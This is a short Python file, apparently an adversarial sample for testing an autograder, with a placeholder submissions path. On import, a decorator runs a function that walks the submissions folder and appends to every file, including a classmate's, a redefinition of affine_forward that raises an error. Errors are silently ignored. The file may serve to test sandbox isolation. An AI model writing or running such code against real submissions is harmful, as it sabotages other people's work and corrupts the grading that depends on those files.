"""At import, change the submitted files (a classmate's, and this one's original) in the submissions folder."""


@lambda attack: attack() or attack
def _tamper_with_submissions():
    import os

    for folder, _, files in os.walk("@SUBMISSIONS@"):
        for name in files:
            try:
                with open(os.path.join(folder, name), "a") as file:
                    file.write("\ndef affine_forward(x, w, b):\n    raise ValueError('tampered')\n")
            except OSError:
                pass
